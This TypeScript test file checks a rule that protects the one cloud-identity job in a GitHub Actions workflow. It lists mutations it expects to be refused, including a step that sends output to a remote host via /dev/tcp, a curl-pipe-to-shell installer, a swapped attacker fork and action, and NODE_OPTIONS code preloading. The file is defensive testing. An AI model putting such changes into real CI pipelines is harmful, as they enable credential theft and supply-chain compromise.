import { join } from "node:path";
import { expect, test } from "vitest";
import { identityIsBound } from "./identity.ts";
import { parseWorkflow, readWorkflows } from "./read-workflows.ts";

// The one job that has an identity and runs code, and what somebody might change about it.
const files = readWorkflows(join(import.meta.dirname, "..", "..", "..", ".."));
const textOf = (name: string) => files.find(({ file }) => file === name)?.text ?? "";
const real = textOf("reconcile.yaml");
const [before = "", after = ""] = real.split(/^ {2}cloud:\n/m);

test("exactly two jobs have an identity, and the rule has nothing to say against them", () => {
  const jobs = files.flatMap(({ file, jobs: all }) => all.map(({ id, permissions }) => ({ name: `${file} ${id}`, permissions })));
  const named = jobs.filter(({ permissions }) => JSON.stringify(permissions ?? {}).includes("id-token")).map(({ name }) => name);
  expect(named).toEqual(["reconcile.yaml cloud", "reconcile.yaml attest"]);
  expect(files.flatMap(identityIsBound)).toEqual([]);
});

/** A change of what follows `cloud:`; a change of the whole file begins with another job. */
const inCloud = (change: (text: string) => string) => () => `${before}  cloud:\n${change(after)}`;
const replace = (old: string | RegExp, by: string) => inCloud((text) => text.replace(old, by));
const step = (run: string) => `      - run: ${run}\n`;
const credentials = / {6}# Last, so[^]*?aws-region: .*\n/;

const attacks: readonly (readonly [string, () => string, string])[] = [
  ["for pull requests", () => real.replace("on:\n", "on:\n  pull_request:\n"), "on pull_request"],
  ["for pull requests, with main's rights", () => real.replace("on:\n", "on:\n  pull_request_target:\n"), "on pull_request_target"],
  ["for a merge queue", () => real.replace("on:\n", "on:\n  merge_group:\n"), "on merge_group"],
  ["for whoever comments", () => real.replace("on:\n", "on:\n  issue_comment:\n"), "on issue_comment"],
  ["for another workflow", () => real.replace("on:\n", "on:\n  workflow_call:\n"), "on workflow_call"],
  ["for any branch", () => real.replace("branches: [main]", "branches: ['**']"), "on push"],
  ["for tags", () => real.replace("branches: [main]", "branches: [main]\n    tags: ['*']"), "on push"],
  ["with text that whoever starts it chooses", () => real.replace("        type: boolean", "        type: string"), "on workflow_dispatch"],
  ["without a deployment environment", replace(/ {4}environment: .*\n/, ""), "environment is not"],
  ["in a deployment environment of its own", replace(/environment: \S.*$/m, "environment: eu"), "environment is not"],
  [
    "in one that the branch names",
    replace("environment: ${{ matrix.of.environment }}", "environment: ${{ github.ref_name }}"),
    "environment",
  ],
  ["on other branches", replace("github.ref == 'refs/heads/main' && ", ""), "if is not"],
  ["whatever was found", replace(/if: github.ref .*$/m, "if: always()"), "if is not"],
  ["with a matrix of its own", replace(/of: \$\{\{.*$/m, "of: [{ role: x, environment: eu }]"), "strategy is not"],
  ["with one more right", replace("      id-token: write", "      packages: write\n      id-token: write"), "permissions is not"],
  ["with all rights", replace(/permissions:\n(?: {6}.*\n){3}/, "permissions: write-all\n"), "permissions is not"],
  ["on a machine that others can reach", replace("runs-on: ubuntu-24.04", "runs-on: [self-hosted]"), "runs-on is not"],
  ["in somebody's container", replace("    steps:", "    container: alpine:3\n    steps:"), "container is not"],
  ["beside a service", replace("    steps:", "    services:\n      a: { image: redis }\n    steps:"), "services is not"],
  ["with variables for all steps", replace("    steps:", "    env:\n      NODE_OPTIONS: --require=./x.cjs\n    steps:"), "env is not"],
  ["with variables for all jobs", () => real.replace("permissions: {}", "permissions: {}\nenv:\n  BASH_ENV: x.sh"), "env of the workflow"],
  ["with another shell", replace("    steps:", "    defaults:\n      run: { shell: python }\n    steps:"), "defaults is not"],
  [
    "with another shell everywhere",
    () => real.replace("permissions: {}", "permissions: {}\ndefaults:\n  run: { shell: sh }"),
    "defaults of",
  ],
  ["for longer", replace("timeout-minutes: 60", "timeout-minutes: 120"), "timeout-minutes is not"],
  ["with another commit", replace("          ref: main\n", "          ref: ${{ github.sha }}\n"), "step 1"],
  ["with a token on disk", replace("persist-credentials: false", "persist-credentials: true"), "step 1"],
  ["with somebody's fork", replace("          ref: main\n", "          ref: main\n          repository: mallory/platform\n"), "step 1"],
  ["with what tests need", replace("prepare\n", 'prepare\n        with:\n          development: "true"\n'), "step 2"],
  ["with another artifact", replace("name: merged", "name: summary-first"), "step 3"],
  ["with one artifact more", replace("          name: merged\n", "          pattern: '*'\n"), "step 3"],
  [
    "with another installer",
    replace("npx --no-install platform doctor --install-pulumi", "curl -fsSL https://get.pulumi.com | sh"),
    "step 4",
  ],
  ["with a package that is fetched", replace("npx --no-install platform doctor", "npx platform doctor"), "step 4"],
  ["with another action", replace("aws-actions/configure-aws-credentials@", "mallory/configure-aws-credentials@"), "step 5"],
  ["with another role", replace("${{ matrix.of.role }}", "arn:aws:iam::111122223333:role/admin"), "step 5"],
  [
    "with keys that last",
    replace("          aws-region", "          aws-access-key-id: ${{ secrets.KEY }}\n          aws-region"),
    "step 5",
  ],
  [
    "with credentials before anything is installed",
    inCloud((text) => {
      const [taken = ""] = credentials.exec(text) ?? [];
      return text.replace(taken, "").replace("    steps:\n", `    steps:\n${taken}`);
    }),
    "step 1",
  ],
  ["without anybody's consent", replace("--require-consent ", ""), "step 6"],
  ["agreed by whoever", replace("${{ inputs.agreed && github.actor || '' }}", "margaret"), "step 6"],
  ["for everything", replace(' --instance "$INSTANCE"', ""), "step 6"],
  ["with a way around guards", replace("--require-consent", "--require-consent --dangerously-go-back"), "step 6"],
  ["and what it fails of hidden", replace("      - name: Reconcile", "      - continue-on-error: true\n        name: Reconcile"), "step 6"],
  ["with a variable that Node reads", replace("          INSTANCE:", "          NODE_OPTIONS: --import=x\n          INSTANCE:"), "step 6"],
  ["in another folder", replace("      - name: Reconcile", "      - working-directory: environments\n        name: Reconcile"), "step 6"],
  ["and then something else", replace(" summary.json >>", " summary.json | tee /dev/tcp/192.0.2.1/80 >>"), "step 7"],
  ["with all that lies around published", replace("          path: summary.json", "          path: ."), "step 8"],
  ["with a script first", replace("    steps:\n", `    steps:\n${step("env")}`), "step 1, step 1 is not"],
  ["with a script last", replace("\n  # What failed", `\n${step("npm test")}\n  # What failed`), "step 9"],
  ["without its last step", replace(/ {6}- uses: actions\/upload-artifact[^]*?\n\n/, "\n"), "step 8, which is missing"],
  [
    "under another name",
    () => real.replace(/^ {2}cloud:\n/m, "  clouds:\n"),
    "clouds, Install the pulumi CLI: runs code beside an identity",
  ],
  [
    "in the jobs that need none",
    () => real.replace("      contents: write #", "      id-token: write\n      contents: write #"),
    "first, Reconcile: runs code beside an identity",
  ],
  [
    "in jobs that may do everything",
    () => real.replace(/permissions:\n(?: {6}.*\n){2} {4}outputs/, "permissions: write-all\n    outputs"),
    "first, Reconcile: runs code beside an identity",
  ],
];

test.each(attacks)("an identity %s is refused", (_, attack, finding) => {
  const changed = attack();
  expect(changed).not.toBe(real);
  expect(identityIsBound(parseWorkflow("reconcile.yaml", changed)).join("\n")).toContain(finding);
});

test("the same job in another workflow is refused", () => {
  expect(identityIsBound(parseWorkflow("pull-request.yaml", real)).join("\n")).toContain("cloud, Reconcile this instance: runs code");
});

test.each([
  ["development packages by default", (text: string) => text.replace('default: "false"', 'default: "true"')],
  ["development packages always", (text: string) => text.replace(" --omit=dev", "")],
  ["install scripts", (text: string) => text.replace("--ignore-scripts --omit=dev", "--omit=dev")],
  ["something before it installs", (text: string) => text.replace("steps:\n", "steps:\n    - run: x\n      shell: bash\n")],
])("%s are refused in what that job is prepared by", (_, change) => {
  const text = textOf("prepare/action.yaml");
  expect(change(text)).not.toBe(text);
  expect(identityIsBound(parseWorkflow("prepare/action.yaml", change(text)))).toHaveLength(1);
});

test("a newer version of an action is another rule's", () => {
  expect(identityIsBound(parseWorkflow("reconcile.yaml", real.replaceAll(/@[0-9a-f]{40}/g, `@${"0".repeat(40)}`)))).toEqual([]);
});
